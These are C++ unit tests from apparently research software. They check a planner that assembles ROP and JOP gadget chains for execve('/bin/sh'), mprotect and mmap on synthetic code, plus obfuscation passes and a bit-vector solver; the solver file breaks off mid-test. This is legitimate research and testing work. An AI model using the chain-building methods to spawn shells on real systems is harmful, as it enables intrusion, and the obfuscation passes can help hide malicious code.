  ASSERT_FALSE(chains.empty());
  Chain bad = chains.front();
  // Corrupt a payload slot: validation must fail.
  for (size_t i = 0; i + 8 <= bad.payload.size(); i += 8) bad.payload[i] ^= 0xff;
  EXPECT_FALSE(payload::validate(s.img, bad, Goal::execve(),
                                 image::kStackTop - 0x2000, 1));
}

TEST(Payload, GoalDefinitions) {
  EXPECT_EQ(Goal::execve().syscall_no, 59u);
  EXPECT_EQ(Goal::mprotect().syscall_no, 10u);
  EXPECT_EQ(Goal::mmap().syscall_no, 9u);
  EXPECT_EQ(Goal::all().size(), 3u);
  // execve's rdi target carries the shell path.
  const auto g = Goal::execve();
  bool has_path = false;
  for (const auto& t : g.regs)
    if (t.kind == payload::RegTarget::Kind::PointerToBytes)
      has_path = std::string(t.bytes.begin(), t.bytes.end() - 1) == "/bin/sh";
  EXPECT_TRUE(has_path);
}

// ---- GadgetIndex / nogood / reachability battery ----

/// Byte-level chain equality: gadget sequences AND payloads. This is the
/// test-side analogue of the tier-1 digest diff — the index and nogood
/// machinery must be pure accelerators.
void expect_same_chains(const std::vector<Chain>& x,
                        const std::vector<Chain>& y) {
  ASSERT_EQ(x.size(), y.size());
  for (size_t i = 0; i < x.size(); ++i) {
    EXPECT_EQ(x[i].gadgets, y[i].gadgets) << "chain " << i;
    EXPECT_EQ(x[i].payload, y[i].payload) << "chain " << i;
  }
}

TEST(MultisetHash, DuplicatesDoNotCancel) {
  const u64 a = 0x1111, b = 0x2222;
  const std::vector<u64> none, one{a}, two{a, a};
  const u64 h_none = multiset_hash(none, 7);
  const u64 h_one = multiset_hash(one, 7);
  const u64 h_two = multiset_hash(two, 7);
  // The XOR-fold bug this replaces: {a, a} hashed identically to {} (the
  // pair cancelled), merging distinct plans in the visited set.
  EXPECT_NE(h_two, h_none);
  EXPECT_NE(h_two, h_one);
  EXPECT_NE(h_one, h_none);
  // Order independence is the property the visited set actually needs.
  const std::vector<u64> ab{a, b}, ba{b, a};
  EXPECT_EQ(multiset_hash(ab, 7), multiset_hash(ba, 7));
  EXPECT_NE(multiset_hash(ab, 7), multiset_hash(ab, 8));  // seed matters
}

TEST(NogoodTable, EncodeMergeRoundTrip) {
  NogoodTable t;
  t.insert(5);
  t.insert(9);
  t.insert(5);  // duplicate: no-op
  EXPECT_TRUE(t.dirty());
  EXPECT_EQ(t.size(), 2u);
  NogoodTable u;
  u.merge_decode(t.encode());
  EXPECT_FALSE(u.dirty());  // merged entries are not new learning
  EXPECT_EQ(u.size(), 2u);
  EXPECT_TRUE(u.contains(5));
  EXPECT_TRUE(u.contains(9));
  EXPECT_FALSE(u.contains(7));
  // Corrupt record: fail-soft, nothing merged.
  NogoodTable v;
  v.merge_decode({{1, 2, 3}});
  EXPECT_EQ(v.size(), 0u);
}

TEST(GadgetIndex, EncodeDecodeRoundTrip) {
  Assembler a = classic_rop();
  Scenario s(a);
  GadgetIndex idx = GadgetIndex::build(s.ctx, s.lib);
  const auto recs = idx.encode();
  auto back = GadgetIndex::decode(recs, s.lib.size());
  ASSERT_TRUE(back.has_value());
  for (int r = 0; r < x86::kNumRegs; ++r) {
    const auto reg = static_cast<Reg>(r);
    const auto xs = idx.candidates(reg);
    const auto ys = back->candidates(reg);
    ASSERT_EQ(xs.size(), ys.size());
    for (size_t i = 0; i < xs.size(); ++i) {
      EXPECT_EQ(xs[i].gadget, ys[i].gadget);
      EXPECT_EQ(xs[i].base_score, ys[i].base_score);
      EXPECT_EQ(xs[i].dag_size, ys[i].dag_size);
      EXPECT_EQ(xs[i].const_value, ys[i].const_value);
      EXPECT_EQ(xs[i].flags, ys[i].flags);
      EXPECT_EQ(xs[i].n_needs, ys[i].n_needs);
      EXPECT_EQ(xs[i].needs, ys[i].needs);
    }
  }
  // Pool-size skew (a digest collision would be needed to hit this in the
  // store, but disk content is never trusted): read as absent.
  EXPECT_FALSE(GadgetIndex::decode(recs, s.lib.size() + 1).has_value());
}

/// Candidate-set equivalence on a scenario: the indexed search and the
/// linear reference path must emit byte-identical chains.
void expect_index_linear_parity(Assembler& a, const Goal& goal) {
  Scenario s(a);
  Options on;
  on.use_index = true;
  on.use_nogoods = true;
  Options off;
  off.use_index = false;
  off.use_nogoods = false;
  Planner pi(s.ctx, s.lib, s.img);
  const auto indexed = pi.plan(goal, on);
  Planner pl(s.ctx, s.lib, s.img);
  const auto linear = pl.plan(goal, off);
  expect_same_chains(indexed, linear);
  ASSERT_FALSE(indexed.empty());
  EXPECT_GT(pi.stats().index_hits, 0u);   // the fast path actually ran
  EXPECT_EQ(pl.stats().index_hits, 0u);   // the reference never indexes
}

TEST(Planner, IndexMatchesLinearClassicRop) {
  Assembler a = classic_rop();
  expect_index_linear_parity(a, Goal::execve());
}

TEST(Planner, IndexMatchesLinearConditionalGadgets) {
  // The Fig. 6 pool: the only rsi-setter carries a conditional-jump
  // precondition, so the search has real dead ends for nogoods to learn.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  auto trap = a.new_label();
  a.pop(Reg::RSI);
  a.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
  a.jcc(Cond::NE, trap);
  a.ret();
  a.bind(trap);
  a.int3();
  a.syscall();
  expect_index_linear_parity(a, Goal::execve());
}

TEST(Planner, IndexMatchesLinearJop) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::RSI);
  a.jmp_reg(Reg::RAX);
  a.syscall();
  expect_index_linear_parity(a, Goal::execve());
}

TEST(Planner, UnreachableGoalFastFails) {
  // The only rdi-setter is a register transfer from rbx — and nothing in
  // the pool establishes rbx. reg_usable(rdi) alone is fooled (a static
  // provider exists); only the establishable-register closure sees that
  // the provider's needs can never be met.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.mov(Reg::RDI, Reg::RBX);
  a.ret();
  a.syscall();
  Scenario s(a);
  Planner p(s.ctx, s.lib, s.img);
  Options on;
  on.use_index = true;
  on.use_nogoods = true;
  EXPECT_TRUE(p.plan(Goal::execve(), on).empty());
  EXPECT_EQ(p.stats().unreachable_goals, 1u);
  EXPECT_EQ(p.stats().expansions, 0u);  // rejected before any search
  // Soundness cross-check: the linear reference also finds nothing — it
  // just burns search budget discovering it.
  Planner lin(s.ctx, s.lib, s.img);
  Options off;
  off.use_index = false;
  off.use_nogoods = false;
  EXPECT_TRUE(lin.plan(Goal::execve(), off).empty());
  EXPECT_EQ(lin.stats().unreachable_goals, 0u);
  EXPECT_GT(lin.stats().expansions, 0u);
}

TEST(Planner, ReuseAcrossGoalsMatchesFreshPlanners) {
  // failure_count_ and stats_ are scoped per plan() call: goal A's
  // concretization failures must not demote providers for goal B on a
  // reused planner.
  Assembler a = classic_rop();
  Scenario s(a);
  Planner reused(s.ctx, s.lib, s.img);
  const auto e1 = reused.plan(Goal::execve(), {});
  const auto m1 = reused.plan(Goal::mprotect(), {});
  Planner fresh_e(s.ctx, s.lib, s.img);
  const auto e2 = fresh_e.plan(Goal::execve(), {});
  Planner fresh_m(s.ctx, s.lib, s.img);
  const auto m2 = fresh_m.plan(Goal::mprotect(), {});
  expect_same_chains(e1, e2);
  expect_same_chains(m1, m2);
  ASSERT_FALSE(m1.empty());
}

TEST(Planner, SharedConcretizeStatsDoNotLeakBlame) {
  // A caller-shared ConcretizeStats arrives poisoned with a stale
  // last_mismatch_reg (say, from a previous goal). The planner must reset
  // it before each concretize call so stale blame never demotes an
  // innocent provider.
  Assembler a = classic_rop();
  Scenario s(a);
  payload::ConcretizeStats shared;
  shared.last_mismatch_reg = Reg::RDI;  // poison
  Options with_stats;
  with_stats.concretize.stats = &shared;
  Planner p(s.ctx, s.lib, s.img);
  const auto observed = p.plan(Goal::execve(), with_stats);
  Planner q(s.ctx, s.lib, s.img);
  const auto clean = q.plan(Goal::execve(), {});
  expect_same_chains(observed, clean);
  ASSERT_FALSE(clean.empty());
}

TEST(Planner, WarmStartMemoRoundTrip) {
  const std::string dir =
      testing::TempDir() + "gp_planner_warm_start_memo";
  std::filesystem::remove_all(dir);
  store::ArtifactStore store(dir);

  Assembler a = classic_rop();
  Scenario s(a);
  Options opts;
  opts.use_index = true;
  opts.use_nogoods = true;
  opts.memo_store = &store;
  opts.pool_digest = 0xfeedbeef;  // any nonzero digest keys the memo

  Planner first(s.ctx, s.lib, s.img);
  const auto cold = first.plan(Goal::execve(), opts);
  ASSERT_FALSE(cold.empty());
  EXPECT_EQ(first.stats().index_builds, 1u);
  EXPECT_EQ(first.stats().index_loads, 0u);

  // A fresh planner on the same store warm-loads the index instead of
  // rebuilding — and the chains are byte-identical (hints, not results).
  Planner second(s.ctx, s.lib, s.img);
  const auto warm = second.plan(Goal::execve(), opts);
  EXPECT_EQ(second.stats().index_builds, 0u);
  EXPECT_EQ(second.stats().index_loads, 1u);
  expect_same_chains(cold, warm);
  EXPECT_GE(store.stats().hits, 1u);

  std::filesystem::remove_all(dir);
}

TEST(Planner, NeedsTruncationCountedNotSilent) {
  // A 31-deep pointer chase (mov rax,[rax] x31; ret): the needs walk's
  // expansion cap trips, the dropped dependency is flagged on the
  // candidate, and scanning it during a search is counted.
  Assembler a = classic_rop();
  for (int i = 0; i < 31; ++i) a.mov_load(Reg::RAX, x86::MemRef{Reg::RAX});
  a.ret();
  Scenario s(a, /*minimize_pool=*/false);

  bool truncated = false;
  for (const u32 gi : s.lib.controlling(Reg::RAX)) {
    const Candidate c = analyze_candidate(s.ctx, s.lib, gi, Reg::RAX);
    truncated |= (c.flags & Candidate::kNeedsTruncated) != 0;
  }
  EXPECT_TRUE(truncated);

  Planner p(s.ctx, s.lib, s.img);
  Options o;
  o.max_candidates_per_goal = 64;  // deep chains rank last; scan them all
  const auto chains = p.plan(Goal::execve(), o);
  EXPECT_FALSE(chains.empty());
  EXPECT_GT(p.stats().needs_truncated, 0u);
}

}  // namespace
}  // namespace gp::planner
