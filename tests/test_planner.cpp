#include <gtest/gtest.h>

#include "planner/planner.hpp"
#include "subsume/subsume.hpp"
#include "x86/encoder.hpp"

namespace gp::planner {
namespace {

using gadget::Extractor;
using gadget::Library;
using payload::Chain;
using payload::Goal;
using solver::Context;
using x86::Assembler;
using x86::Cond;
using x86::Mnemonic;
using x86::Reg;

struct Scenario {
  Context ctx;
  image::Image img;
  Library lib;

  explicit Scenario(Assembler& a, bool minimize_pool = true)
      : img(a.finish(), {}, image::kCodeBase), lib(make_lib(minimize_pool)) {}

 private:
  Library make_lib(bool minimize_pool) {
    Extractor ex(ctx, img);
    auto pool = ex.extract({});
    if (minimize_pool) pool = subsume::minimize(ctx, pool);
    return Library(std::move(pool));
  }
};

/// Classic ROP scenario: pop gadgets for every syscall argument register.
Assembler classic_rop() {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::R10);
  a.ret();
  a.pop(Reg::R8);
  a.ret();
  a.pop(Reg::R9);
  a.ret();
  a.syscall();
  return a;
}

TEST(Planner, BuildsValidatedExecveChain) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  const Chain& c = chains.front();
  EXPECT_EQ(c.goal_name, "execve");
  EXPECT_GE(c.gadgets.size(), 5u);  // 4 pops + syscall
  EXPECT_FALSE(c.payload.empty());
  // Payload embeds "/bin/sh".
  const std::string p(c.payload.begin(), c.payload.end());
  EXPECT_NE(p.find("/bin/sh"), std::string::npos);
  // Independent re-validation with a different register seed.
  EXPECT_TRUE(payload::validate(s.img, c, Goal::execve(),
                                image::kStackTop - 0x2000, 0x1234567));
  EXPECT_GT(planner.stats().validated, 0u);
}

TEST(Planner, BuildsMprotectAndMmapChains) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_FALSE(planner.plan(Goal::mprotect(), {}).empty());
  EXPECT_FALSE(planner.plan(Goal::mmap(), {}).empty());
}

TEST(Planner, FailsWithoutSyscallGadget) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_TRUE(planner.plan(Goal::execve(), {}).empty());
}

TEST(Planner, FailsWhenArgRegisterUncontrollable) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();  // no way to set rdi
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_TRUE(planner.plan(Goal::execve(), {}).empty());
}

TEST(Planner, UsesConditionalGadgetWhenPopIsMissing) {
  // The paper's Fig. 6 situation: no plain `pop rsi; ret` exists, but a
  // conditional-jump gadget controls rsi when its precondition (on rax)
  // holds — the planner must chain a rax-setter before it.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  // The only rsi-setter sits BEFORE a conditional jump (like Fig. 6's
  // Gadget 1), so no pure suffix of it controls rsi:
  //   pop rsi; test rax, rax; jne trap; ret
  auto trap = a.new_label();
  a.pop(Reg::RSI);
  a.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
  a.jcc(Cond::NE, trap);
  a.ret();
  a.bind(trap);
  a.int3();
  a.syscall();
  Scenario s(a);

  Planner planner(s.ctx, s.lib, s.img);
  Options opts;
  auto chains = planner.plan(Goal::execve(), opts);
  ASSERT_FALSE(chains.empty());
  bool used_cond = false;
  for (const Chain& c : chains)
    used_cond |= c.cj_gadgets > 0;
  EXPECT_TRUE(used_cond);

  // Ablation (the baselines' restriction): with conditional gadgets
  // disabled, no chain exists.
  Options no_cond = opts;
  no_cond.use_cond_gadgets = false;
  Planner p2(s.ctx, s.lib, s.img);
  EXPECT_TRUE(p2.plan(Goal::execve(), no_cond).empty());
}

TEST(Planner, UsesJopGadgetMixedWithRet) {
  // rsi is only settable via a jmp-rax gadget (JOP): pop rsi; jmp rax.
  // The chain needs rax to hold the next gadget's address — which also
  // conflicts with rax = 59 for execve, so the planner must order the
  // rax-setting pop AFTER the JOP step. Exercises threat resolution.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::RSI);
  a.jmp_reg(Reg::RAX);
  a.syscall();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  bool used_jop = false;
  for (const Chain& c : chains) used_jop |= c.ij_gadgets > 0;
  EXPECT_TRUE(used_jop);
}

TEST(Planner, DirectJumpMergedGadgetsUsable) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  // pop rdi; jmp L ... L: ret
  auto l = a.new_label();
  a.pop(Reg::RDI);
  a.jmp(l);
  a.int3();
  a.bind(l);
  a.ret();
  a.syscall();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());

  Options no_dj;
  no_dj.use_direct_merged = false;
  Planner p2(s.ctx, s.lib, s.img);
  EXPECT_TRUE(p2.plan(Goal::execve(), no_dj).empty());
}

TEST(Planner, MultipleDiverseChains) {
  // Several alternative rdi-setters should yield several distinct chains.
  Assembler a = classic_rop();
  a.pop(Reg::RDI);
  a.nop();
  a.nop();
  a.ret();
  a.pop(Reg::RDI);
  a.pop(Reg::RBX);
  a.ret();
  Scenario s(a, /*minimize_pool=*/false);
  Planner planner(s.ctx, s.lib, s.img);
  Options opts;
  opts.max_chains = 8;
  auto chains = planner.plan(Goal::execve(), opts);
  EXPECT_GE(chains.size(), 2u);
  std::set<std::vector<u32>> unique;
  for (const Chain& c : chains) unique.insert(c.gadgets);
  EXPECT_EQ(unique.size(), chains.size());  // no duplicates
}

TEST(Planner, ChainMetricsConsistent) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  for (const Chain& c : chains) {
    EXPECT_GT(c.total_insts, 0);
    EXPECT_GT(c.avg_gadget_len(), 0.0);
    EXPECT_LE(static_cast<size_t>(c.ret_gadgets + c.ij_gadgets +
                                  c.cj_gadgets),
              c.gadgets.size() + 1);
  }
}

TEST(Payload, ValidateRejectsCorruptPayload) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  Chain bad = chains.front();
  // Corrupt a payload slot: validation must fail.
  for (size_t i = 0; i + 8 <= bad.payload.size(); i += 8) bad.payload[i] ^= 0xff;
  EXPECT_FALSE(payload::validate(s.img, bad, Goal::execve(),
                                 image::kStackTop - 0x2000, 1));
}

TEST(Payload, GoalDefinitions) {
  EXPECT_EQ(Goal::execve().syscall_no, 59u);
  EXPECT_EQ(Goal::mprotect().syscall_no, 10u);
  EXPECT_EQ(Goal::mmap().syscall_no, 9u);
  EXPECT_EQ(Goal::all().size(), 3u);
  // execve's rdi target carries the shell path.
  const auto g = Goal::execve();
  bool has_path = false;
  for (const auto& t : g.regs)
    if (t.kind == payload::RegTarget::Kind::PointerToBytes)
      has_path = std::string(t.bytes.begin(), t.bytes.end() - 1) == "/bin/sh";
  EXPECT_TRUE(has_path);
}

}  // namespace
}  // namespace gp::planner
