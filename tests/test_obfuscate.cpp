#include <gtest/gtest.h>

#include "codegen/codegen.hpp"
#include "emu/emu.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"
#include "solver/solver.hpp"

namespace gp::obf {
namespace {

struct Outcome {
  u64 exit_status;
  std::string output;
  u64 steps;
  size_t code_size;
};

Outcome run(const cfg::Program& prog, u64 max_steps = 30'000'000) {
  auto img = codegen::compile(prog);
  emu::Emulator e(img);
  auto r = e.run(max_steps);
  EXPECT_EQ(r.reason, emu::StopReason::Exit)
      << emu::stop_reason_name(r.reason) << " at " << img.symbolize(r.rip);
  return {r.exit_status, e.output_str(), r.steps, img.code().size()};
}

/// Apply `opts` and check the obfuscated program behaves identically.
void check_preserves(const std::string& src, const Options& opts,
                     bool expect_growth = true) {
  auto base = minic::compile_source(src);
  auto obf = minic::compile_source(src);
  obfuscate(obf, opts);
  const Outcome a = run(base);
  const Outcome b = run(obf);
  EXPECT_EQ(a.exit_status, b.exit_status) << opts.name();
  EXPECT_EQ(a.output, b.output) << opts.name();
  if (expect_growth) {
    EXPECT_GT(b.code_size, a.code_size) << opts.name();
  }
}

const char* kPrograms[] = {
    // Arithmetic mix.
    R"(int main() {
      int i = 1; int acc = 7;
      while (i < 40) {
        acc = acc * 3 + (i ^ acc) - (i & 0x5f) + (acc | i);
        acc = acc ^ (acc >> 5);
        i = i + 1;
      }
      out(acc);
      return acc & 0xffff;
    })",
    // Arrays + nested control flow.
    R"(int a[16];
    int main() {
      int i = 0;
      while (i < 16) { a[i] = (i * 37) & 0x3f; i = i + 1; }
      int j = 0; int best = 0;
      while (j < 16) {
        if (a[j] > best) { best = a[j]; } else { if (a[j] == 7) { best = best + 1; } }
        j = j + 1;
      }
      out(best);
      return best;
    })",
    // Functions + recursion.
    R"(int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
    int twice(int x) { return x + x; }
    int main() { out(fib(12)); return twice(fib(10)) + 1; })",
    // Byte arrays / string handling.
    R"(byte buf[32];
    int main() {
      int s = "hello world";
      int i = 0;
      while (loadb(s + i) != 0) { buf[i] = loadb(s + i) ^ 0x20; i = i + 1; }
      int sum = 0; int j = 0;
      while (j < i) { sum = sum + buf[j]; j = j + 1; }
      out(sum);
      return sum & 0xff;
    })",
    // Globals and logic operators.
    R"(int g = 3; int h;
    int check(int v) { return v > 2 && v < 100 || v == 0; }
    int main() {
      h = g * 14;
      if (check(h)) { g = g + h; }
      out(g); out(h);
      return g;
    })",
};

class PreservationTest
    : public ::testing::TestWithParam<std::tuple<int, int>> {};

TEST_P(PreservationTest, ObfuscationPreservesSemantics) {
  const auto [prog_idx, config] = GetParam();
  Options opts;
  switch (config) {
    case 0: opts = Options{.substitution = true}; break;
    case 1: opts = Options{.bogus_cf = true}; break;
    case 2: opts = Options{.flatten = true}; break;
    case 3: opts = Options{.encode_data = true}; break;
    case 4: opts = Options{.virtualize = true}; break;
    case 5: opts = Options::llvm_obf(); break;
    case 6: opts = Options::tigress(); break;
  }
  opts.seed = 17 + prog_idx;
  check_preserves(kPrograms[prog_idx], opts);
}

std::string preservation_name(
    const ::testing::TestParamInfo<std::tuple<int, int>>& info) {
  static const char* names[] = {"sub",  "bcf",  "fla",    "enc",
                                "virt", "llvm", "tigress"};
  return "p" + std::to_string(std::get<0>(info.param)) + "_" +
         names[std::get<1>(info.param)];
}

INSTANTIATE_TEST_SUITE_P(
    AllProgramsAllConfigs, PreservationTest,
    ::testing::Combine(::testing::Range(0, 5), ::testing::Range(0, 7)),
    preservation_name);

TEST(Obfuscate, SeedsAreDeterministic) {
  auto p1 = minic::compile_source(kPrograms[0]);
  auto p2 = minic::compile_source(kPrograms[0]);
  obfuscate(p1, Options::llvm_obf(42));
  obfuscate(p2, Options::llvm_obf(42));
  EXPECT_EQ(cfg::to_string(p1), cfg::to_string(p2));
}

TEST(Obfuscate, DifferentSeedsDiffer) {
  auto p1 = minic::compile_source(kPrograms[0]);
  auto p2 = minic::compile_source(kPrograms[0]);
  obfuscate(p1, Options::llvm_obf(1));
  obfuscate(p2, Options::llvm_obf(2));
  EXPECT_NE(cfg::to_string(p1), cfg::to_string(p2));
}

TEST(Obfuscate, CodeSizeRoughlyDoublesUnderLlvmObf) {
  // The paper: "after Obfuscator LLVM obfuscation, the code size expands
  // twice as large as the original program".
  auto base = minic::compile_source(kPrograms[1]);
  auto obf = minic::compile_source(kPrograms[1]);
  obfuscate(obf, Options::llvm_obf(5));
  const size_t a = codegen::compile(base).code().size();
  const size_t b = codegen::compile(obf).code().size();
  EXPECT_GE(b, a * 3 / 2);  // at least 1.5x; typically ~2-4x
}

TEST(Obfuscate, FlattenIntroducesSwitchDispatch) {
  auto prog = minic::compile_source(kPrograms[2]);
  obfuscate(prog, Options{.flatten = true, .seed = 3});
  bool has_switch = false;
  for (const auto& f : prog.functions)
    for (const auto& b : f.blocks)
      has_switch |= b.term.kind == cfg::Terminator::Kind::Switch;
  EXPECT_TRUE(has_switch);
}

TEST(Obfuscate, VirtualizeReplacesBodiesWithInterpreter) {
  auto base = minic::compile_source(kPrograms[2]);
  auto prog = minic::compile_source(kPrograms[2]);
  obfuscate(prog, Options{.virtualize = true, .seed = 3});
  // Bytecode landed in the data section.
  EXPECT_GT(prog.data.size(), base.data.size() + 64);
  // Every function dispatches through a Switch.
  for (const auto& f : prog.functions) {
    bool has_switch = false;
    for (const auto& b : f.blocks)
      has_switch |= b.term.kind == cfg::Terminator::Kind::Switch;
    EXPECT_TRUE(has_switch) << f.name;
  }
}

TEST(Obfuscate, BogusBlocksNeverExecute) {
  // Instrument every block; output must still match.
  Options opts{.bogus_cf = true, .seed = 9, .bogus_prob = 1.0};
  check_preserves(kPrograms[0], opts);
  check_preserves(kPrograms[3], opts);
}

TEST(Obfuscate, SubstitutionRoundsCompound) {
  Options opts{.substitution = true, .seed = 4, .substitution_rounds = 3};
  check_preserves(kPrograms[0], opts);
  auto base = minic::compile_source(kPrograms[0]);
  auto obf = minic::compile_source(kPrograms[0]);
  obfuscate(obf, opts);
  const size_t a = codegen::compile(base).code().size();
  const size_t b = codegen::compile(obf).code().size();
  EXPECT_GT(b, a * 3);  // three rounds blow up arithmetic heavily
}

TEST(Obfuscate, OpaquePredicateFamiliesAreValid) {
  // Prove each predicate family is a tautology over all 64-bit values —
  // the guarantee the obfuscator's correctness rests on.
  solver::Context ctx;
  solver::Solver s(ctx);
  const auto x = ctx.var("x", 64);
  const auto zero = ctx.constant(0, 64);
  const auto one = ctx.constant(1, 64);
  const auto two = ctx.constant(2, 64);
  // (x*x + x) & 1 == 0
  EXPECT_TRUE(s.prove_valid(
      ctx.eq(ctx.band(ctx.add(ctx.mul(x, x), x), one), zero)));
  // (x & 1) < 2
  EXPECT_TRUE(s.prove_valid(ctx.ult(ctx.band(x, one), two)));
  // ((x | 1) & 1) == 1
  EXPECT_TRUE(s.prove_valid(
      ctx.eq(ctx.band(ctx.bor(x, one), one), ctx.constant(1, 64))));
  // (x*x*x - x) & 1 == 0
  EXPECT_TRUE(s.prove_valid(ctx.eq(
      ctx.band(ctx.sub(ctx.mul(ctx.mul(x, x), x), x), one), zero)));
}

TEST(Obfuscate, BogusCfUsesMultiplePredicateFamilies) {
  // With enough blocks the pass must draw from more than one family
  // (distinguished by the generated instruction shapes).
  auto prog = minic::compile_source(kPrograms[1]);
  obfuscate(prog, Options{.bogus_cf = true, .seed = 3, .bogus_prob = 1.0});
  int mul_preds = 0, nonmul_preds = 0;
  for (const auto& f : prog.functions)
    for (const auto& b : f.blocks) {
      if (b.term.kind != cfg::Terminator::Kind::Branch) continue;
      bool has_mul = false, has_cmp = false;
      for (const auto& in : b.instrs) {
        has_mul |= in.op == cfg::Opcode::Mul;
        has_cmp |= cfg::is_cmp(in.op);
      }
      if (!has_cmp) continue;
      (has_mul ? mul_preds : nonmul_preds)++;
    }
  EXPECT_GT(mul_preds, 0);
  EXPECT_GT(nonmul_preds, 0);
}

TEST(Obfuscate, OptionsName) {
  EXPECT_EQ(Options::none().name(), "none");
  EXPECT_EQ(Options::llvm_obf().name(), "sub+bcf+fla");
  EXPECT_EQ(Options::tigress().name(), "sub+enc+virt+bcf+fla");
  EXPECT_EQ((Options{.flatten = true}).name(), "fla");
}

}  // namespace
}  // namespace gp::obf
