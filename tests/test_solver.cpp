#include <gtest/gtest.h>

#include "solver/solver.hpp"
#include "support/rng.hpp"

namespace gp::solver {
namespace {

class ExprTest : public ::testing::Test {
 protected:
  Context ctx;
  ExprRef c(u64 v, u8 w = 64) { return ctx.constant(v, w); }
};

TEST_F(ExprTest, HashConsing) {
  ExprRef x = ctx.var("x", 64);
  ExprRef a = ctx.add(x, c(5));
  ExprRef b = ctx.add(x, c(5));
  EXPECT_EQ(a, b);
  // Commutative canonicalization: x+y == y+x.
  ExprRef y = ctx.var("y", 64);
  EXPECT_EQ(ctx.add(x, y), ctx.add(y, x));
  EXPECT_EQ(ctx.bxor(x, y), ctx.bxor(y, x));
}

TEST_F(ExprTest, ConstantFolding) {
  EXPECT_EQ(ctx.add(c(2), c(3)), c(5));
  EXPECT_EQ(ctx.mul(c(7), c(6)), c(42));
  EXPECT_EQ(ctx.sub(c(2), c(3)), c(~u64{0}));
  EXPECT_EQ(ctx.band(c(0xff), c(0x0f)), c(0x0f));
  EXPECT_EQ(ctx.shl(c(1), c(8)), c(256));
  EXPECT_EQ(ctx.lshr(c(0x8000000000000000ULL), c(63)), c(1));
  EXPECT_EQ(ctx.ashr(c(0x8000000000000000ULL), c(63)), c(~u64{0}));
  EXPECT_EQ(ctx.eq(c(4), c(4)), ctx.t());
  EXPECT_EQ(ctx.eq(c(4), c(5)), ctx.f());
  EXPECT_EQ(ctx.ult(c(3), c(4)), ctx.t());
  EXPECT_EQ(ctx.slt(c(~u64{0}), c(0)), ctx.t());  // -1 < 0 signed
  EXPECT_EQ(ctx.ult(c(~u64{0}), c(0)), ctx.f());
}

TEST_F(ExprTest, NarrowWidthFolding) {
  EXPECT_EQ(ctx.add(c(0xff, 8), c(1, 8)), c(0, 8));
  EXPECT_EQ(ctx.slt(c(0x80, 8), c(0, 8)), ctx.t());  // -128 < 0 in 8 bits
  EXPECT_EQ(ctx.sext(c(0x80, 8), 64), c(0xffffffffffffff80ULL));
  EXPECT_EQ(ctx.zext(c(0x80, 8), 64), c(0x80));
  EXPECT_EQ(ctx.extract(c(0xabcd, 16), 8, 8), c(0xab, 8));
  EXPECT_EQ(ctx.concat(c(0xab, 8), c(0xcd, 8)), c(0xabcd, 16));
}

TEST_F(ExprTest, Identities) {
  ExprRef x = ctx.var("x", 64);
  EXPECT_EQ(ctx.add(x, c(0)), x);
  EXPECT_EQ(ctx.mul(x, c(1)), x);
  EXPECT_EQ(ctx.mul(x, c(0)), c(0));
  EXPECT_EQ(ctx.band(x, c(0)), c(0));
  EXPECT_EQ(ctx.band(x, c(~u64{0})), x);
  EXPECT_EQ(ctx.bor(x, c(0)), x);
  EXPECT_EQ(ctx.bxor(x, x), c(0));
  EXPECT_EQ(ctx.bxor(x, c(0)), x);
  EXPECT_EQ(ctx.sub(x, x), c(0));
  EXPECT_EQ(ctx.bnot(ctx.bnot(x)), x);
  EXPECT_EQ(ctx.neg(ctx.neg(x)), x);
  EXPECT_EQ(ctx.eq(x, x), ctx.t());
  EXPECT_EQ(ctx.shl(x, c(0)), x);
}

TEST_F(ExprTest, CanonicalFormConstantsOnRight) {
  // Regression tests for the (base + offset) normal form the memory model
  // depends on: constants must always end up on the right, including when
  // the constant arrives on the left or nested inside.
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  // 8 + (x + c) collapses to x + (c + 8).
